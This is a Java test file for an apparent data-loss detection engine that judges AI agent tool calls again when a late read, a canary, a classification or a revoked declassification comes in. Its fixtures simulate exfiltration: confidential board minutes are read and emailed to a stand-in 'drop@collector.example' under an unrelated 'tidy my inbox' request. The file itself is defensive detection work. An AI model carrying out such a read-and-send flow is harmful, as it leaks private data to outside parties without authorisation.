package io.weir.engine.link;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.weir.engine.decide.Desk;
import io.weir.engine.state.MemoryStateTable;
import io.weir.engine.state.StateTable;
import io.weir.schemas.event.AlertRaised;
import io.weir.schemas.event.Classification;
import io.weir.schemas.event.Declassification;
import io.weir.schemas.event.Fingerprint;
import io.weir.schemas.event.Link;
import io.weir.schemas.event.RecordPlace;
import io.weir.schemas.event.ResponseObserved;
import io.weir.schemas.event.Retroactive;
import io.weir.schemas.event.Statement;
import io.weir.schemas.event.ToolCallScanned;
import io.weir.schemas.word.Audience;
import io.weir.schemas.word.DataClass;
import io.weir.schemas.word.RetroactiveCause;
import io.weir.schemas.word.Tier;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class SecondLookTest {

    private static final String MINUTES = "The board met on Tuesday and agreed to close the northern depot, to move "
            + "forty people to the harbor site, and to tell nobody before the supplier contracts are signed.";
    private static final String OTHER = "The canteen serves soup on Mondays, fish on Fridays, and on all other days "
            + "whatever the cook has found at the market in the early morning.";
    private static final String REQUEST = "Tidy up my inbox, please.";
    private static final String DROP = "drop@collector.example";
    private static final String ELSEWHERE = "eve@elsewhere.example";
    private static final RecordPlace PLACE = new RecordPlace("calls", 0, 7);

    private final Desk desk = Desk.fresh();
    private final StateTable state = new MemoryStateTable();
    private final Forms forms = KeptForms.inMemory();
    private final SessionRules rules = new SessionRules(forms);
    private final StatementRule statements = new StatementRule(forms);

    @Test
    void aReadThatComesLateHasTheWriteJudgedAgain() {
        // Given a read that happened before the write
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));
        ToolCallScanned write = write(DROP, MINUTES);
        assertThat(rules.apply(state, PlacedEvent.unplaced(unjudged(write)))).isEmpty();

        // When it arrives after it
        List<AlertRaised> alerts = rules.apply(state, new PlacedEvent(read, PLACE));

        // Then
        assertThat(alerts).singleElement().satisfies(alert -> {
            assertThat(alert.traceId()).isEqualTo(write.traceId());
            assertThat(alert.timeMillis()).isEqualTo(write.timeMillis());
            assertThat(alert.rule()).isEqualTo(SecondLook.RULE);
            assertThat(alert.title()).endsWith("found afterwards: the read became known after the call");
            assertThat(alert.retroactive()).extracting(Retroactive::cause).isEqualTo(RetroactiveCause.LATE_READ);
            assertThat(alert.retroactive()).extracting(Retroactive::timeMillis).isEqualTo(read.timeMillis());
            assertThat(alert.retroactive()).extracting(Retroactive::place).isEqualTo(PLACE);
        });
        assertThat(rules.apply(state, new PlacedEvent(read, PLACE))).isEqualTo(alerts);
    }

    @Test
    void aReadThatHappenedAfterTheWriteIsNoSourceOfIt() {
        ToolCallScanned write = write(DROP, MINUTES);
        rules.apply(state, PlacedEvent.unplaced(write));
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));

        assertThat(rules.apply(state, PlacedEvent.unplaced(read))).isEmpty();
    }

    @Test
    void aCanaryThatIsDeclaredLaterIsFoundInWhatWentOut() {
        rules.apply(state, PlacedEvent.unplaced(write(DROP, "see " + MINUTES)));
        rules.apply(state, PlacedEvent.unplaced(write(ELSEWHERE, OTHER)));

        assertThat(say(new Classification("c1", "acme", now(), "ana", sketch(MINUTES), null, DataClass.INTERNAL, true)))
                .singleElement()
                .satisfies(alert -> {
                    assertThat(alert.tier()).isEqualTo(Tier.BLOCK);
                    assertThat(alert.retroactive())
                            .extracting(Retroactive::cause)
                            .isEqualTo(RetroactiveCause.NEW_CANARY);
                    assertThat(alert.links().get(0).reasons()).contains("+1.0 the content is a canary");
                });
    }

    @Test
    void aCanaryOfAnotherTenantIsNotLookedFor() {
        rules.apply(state, PlacedEvent.unplaced(write(DROP, MINUTES)));

        assertThat(say(new Classification("c1", "zenith", now(), "ana", sketch(MINUTES), null, DataClass.PII, true)))
                .isEmpty();
    }

    @Test
    void aSourceThatIsCalledSensitiveLaterRaisesWhatWasASignal() {
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));
        rules.apply(state, PlacedEvent.unplaced(read));
        // Without a request on record the copy alone is no alert.
        ToolCallScanned write = desk.calls("send_email", Map.of("to", DROP, "body", MINUTES), null)
                .event();
        List<AlertRaised> before = rules.apply(state, PlacedEvent.unplaced(write));

        List<AlertRaised> after =
                say(new Classification("c1", "acme", now(), "ana", null, read.traceId(), DataClass.SECRETS, false));

        assertThat(before).isEmpty();
        assertThat(after)
                .allSatisfy(alert -> assertThat(alert.retroactive())
                        .extracting(Retroactive::cause)
                        .isEqualTo(RetroactiveCause.LATE_CLASSIFICATION));
        assertThat(scoreOf(write, read, DataClass.SECRETS)).isGreaterThan(scoreOf(write, read, null));
    }

    @Test
    void whatIsDeclassifiedMayGoWhereItMayGo() {
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));
        rules.apply(state, PlacedEvent.unplaced(read));
        ToolCallScanned write = write(DROP, MINUTES);
        say(declassified(sketch(MINUTES), null, write, now() + 600_000));

        assertThat(rules.apply(state, PlacedEvent.unplaced(write))).isEmpty();
    }

    @Test
    void theEvidenceSaysInWhoseNameATierWasLowered() {
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));
        rules.apply(state, PlacedEvent.unplaced(read));
        ToolCallScanned write = write(DROP, MINUTES);
        Declassification statement = declassified(sketch(MINUTES), null, write, now() + 600_000);

        List<Link> links =
                new SessionLinker().links(state, Write.of(write), Circumstances.of(write.call(), List.of(statement)));

        assertThat(links).singleElement().satisfies(link -> {
            assertThat(link.tier()).isEqualTo(Tier.TRACE);
            assertThat(link.reasons())
                    .anyMatch(reason -> reason.startsWith("lowered from ALERT")
                            && reason.contains("declassified by ana for 'a test' until 2026-")
                            && reason.endsWith("statement d1"));
        });
    }

    @Test
    void anotherDestinationStillStops() {
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));
        rules.apply(state, PlacedEvent.unplaced(read));
        say(declassified(sketch(MINUTES), null, write(DROP, MINUTES), now() + 600_000));

        assertThat(rules.apply(state, PlacedEvent.unplaced(write(ELSEWHERE, MINUTES))))
                .hasSize(1);
    }

    @Test
    void otherContentToTheSameDestinationStillStops() {
        rules.apply(state, PlacedEvent.unplaced(desk.reads("read_file", Map.of("content", MINUTES + " " + OTHER))));
        ToolCallScanned write = write(DROP, OTHER);
        say(declassified(sketch(MINUTES), null, write, now() + 600_000));

        assertThat(rules.apply(state, PlacedEvent.unplaced(write))).hasSize(1);
    }

    @Test
    void aSecondRecipientBesideThePermittedOneStillStops() {
        rules.apply(state, PlacedEvent.unplaced(desk.reads("read_file", Map.of("content", MINUTES))));
        ToolCallScanned both = desk.calls(
                        "send_email", Map.of("to", List.of(DROP, ELSEWHERE), "body", MINUTES), REQUEST)
                .event();
        say(declassified(sketch(MINUTES), null, write(DROP, MINUTES), now() + 600_000));

        assertThat(rules.apply(state, PlacedEvent.unplaced(both))).hasSize(1);
    }

    @Test
    void aWholeSourceMayBeDeclassified() {
        ResponseObserved read = desk.reads("read_file", Map.of("content", MINUTES));
        rules.apply(state, PlacedEvent.unplaced(read));
        ToolCallScanned write = write(DROP, MINUTES);
        say(declassified(null, read.traceId(), write, now() + 600_000));

        assertThat(rules.apply(state, PlacedEvent.unplaced(write))).isEmpty();
    }

    @Test
    void aDeclassificationEndsByEventTime() {
        rules.apply(state, PlacedEvent.unplaced(desk.reads("read_file", Map.of("content", MINUTES))));
        ToolCallScanned write = write(DROP, MINUTES);
        say(declassified(sketch(MINUTES), null, write, write.timeMillis()));

        assertThat(rules.apply(state, PlacedEvent.unplaced(write))).hasSize(1);
    }

    @Test
    void aRevocationHasWhatItLetPassJudgedAgain() {
        // Given
        rules.apply(state, PlacedEvent.unplaced(desk.reads("read_file", Map.of("content", MINUTES))));
        ToolCallScanned write = write(DROP, MINUTES);
        Declassification statement = declassified(sketch(MINUTES), null, write, now() + 600_000);
        say(statement);
        assertThat(rules.apply(state, PlacedEvent.unplaced(write))).isEmpty();

        // When
        List<AlertRaised> alerts = say(statement.revokedBy("ben", now()));

        // Then
        assertThat(alerts).singleElement().satisfies(alert -> {
            assertThat(alert.traceId()).isEqualTo(write.traceId());
            assertThat(alert.retroactive())
                    .extracting(Retroactive::cause)
                    .isEqualTo(RetroactiveCause.REVOKED_DECLASSIFICATION);
        });
        assertThat(rules.apply(state, PlacedEvent.unplaced(write(DROP, MINUTES))))
                .hasSize(1);
    }

    @Test
    void keepsTheLastWritesOfASession() {
        PastWrites writes = new PastWrites(state, forms.calls());
        PastWrites.Kept last = PastWrites.Kept.NOT_NEEDED;
        for (int i = 0; i <= PastWrites.WRITES_MAX; i++) {
            last = writes.keep(write(DROP, "number " + i + ": " + OTHER), null, Tier.TRACE, null);
        }

        assertThat(last).isEqualTo(PastWrites.Kept.IN_PLACE_OF_ANOTHER);
        int[] kept = {0};
        writes.revisit("acme|s1", write -> {
            kept[0]++;
            return write;
        });
        assertThat(kept[0]).isEqualTo(PastWrites.WRITES_MAX);
    }

    @Test
    void keepsNothingThatStaysInside() {
        PastWrites writes = new PastWrites(state, forms.calls());

        assertThat(writes.keep(write("anna@weir.test", OTHER), null, Tier.TRACE, null))
                .isEqualTo(PastWrites.Kept.NOT_NEEDED);
        assertThat(writes.sessions("acme")).isEmpty();
    }

    @Test
    void refusesAScopeWithoutContentAndSource() {
        assertThatThrownBy(() -> new Declassification(
                        "d1", "acme", 0, "ana", null, null, null, null, Audience.PUBLIC, "a test", 0, 1, false))
                .hasMessage("a declassification of everything is refused; name the content or the source");
    }

    private double scoreOf(ToolCallScanned write, ResponseObserved read, @Nullable DataClass added) {
        Circumstances circumstances = added == null
                ? Circumstances.NONE
                : Circumstances.NONE.with(
                        new Classification("c", "acme", 0, "ana", null, read.traceId(), added, false));
        return new SessionLinker()
                .links(state, Write.of(write), circumstances)
                .get(0)
                .score();
    }

    private Declassification declassified(
            @Nullable Fingerprint content, @Nullable String source, ToolCallScanned to, long until) {
        String destination = to.call().destinations().get(0).hash();
        long from = now() - Duration.ofDays(1).toMillis();
        return new Declassification(
                "d1", "acme", now(), "ana", content, source, destination, null, null, "a test", from, until, false);
    }

    private List<AlertRaised> say(Statement statement) {
        return statements.apply(state, new PlacedStatement(statement, PLACE));
    }

    private ToolCallScanned write(String to, String body) {
        return desk.calls("send_email", Map.of("to", to, "body", body), REQUEST).event();
    }

    /** As a node judges it that has not seen the read. */
    private static ToolCallScanned unjudged(ToolCallScanned write) {
        return PastWrite.of(write, null, Tier.TRACE).call();
    }

    private static Fingerprint sketch(String text) {
        return Desk.fresh().reads("read_file", Map.of("content", text)).fingerprint();
    }

    private long now() {
        return desk.reads("tell_time", Map.of("content", "now")).timeMillis();
    }
}
